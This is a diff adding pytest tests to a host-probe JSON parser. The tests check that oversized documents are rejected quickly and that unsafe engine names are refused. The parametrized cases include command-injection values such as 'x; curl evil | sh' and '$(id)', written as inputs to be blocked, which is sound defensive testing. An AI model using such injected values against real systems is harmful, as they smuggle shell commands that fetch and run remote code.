@@ -207,6 +207,32 @@ def test_json_that_no_probe_writes(text: str) -> None:
         HostProbe().process([text])
 
 
+def test_more_parts_than_a_probe_has() -> None:
+    """16 MB in the right shape took 50 to 100 s of the controller, in which all hosts waited."""
+    good = whole([])
+    for many in (
+        {"users": {f"u{n}": None for n in range(200_000)}},
+        {"plans": {"e": {"lines": [""] * 200_000}}},
+        {"files": {f"/{n}": {"kind": "absent"} for n in range(200_000)}},
+    ):
+        began = time.monotonic()
+        with pytest.raises(FactProcessError, match="parts"):
+            HostProbe().process([json.dumps({**good, **many})])
+        assert time.monotonic() - began < 5
+    plans = {"e": {"units_to_stop": [{"pids": list(range(65_536))}]}}
+    assert HostProbe().process([json.dumps({**good, "plans": plans})])["plans"] == plans
+
+
+@pytest.mark.parametrize(
+    "names", [["x; curl evil | sh"], ["a\n"], ["$(id)"], [f"e{n}" for n in range(300)]]
+)
+def test_engines_that_are_none(names: list[str]) -> None:
+    """A plan prints a command with each that the inventory does not have, to be copied."""
+    document = {**whole([]), "engines": dict.fromkeys(names, engine_part())}
+    with pytest.raises(FactProcessError, match="engines"):
+        HostProbe().process([json.dumps(document)])
+
+
 @pytest.mark.parametrize("text", ["never", "", "2026-13-01T00:00:00Z", "0001-01-01T00:00:00Z"])
 def test_wrong_times(text: str) -> None:
     document = {**whole([]), "time": text}
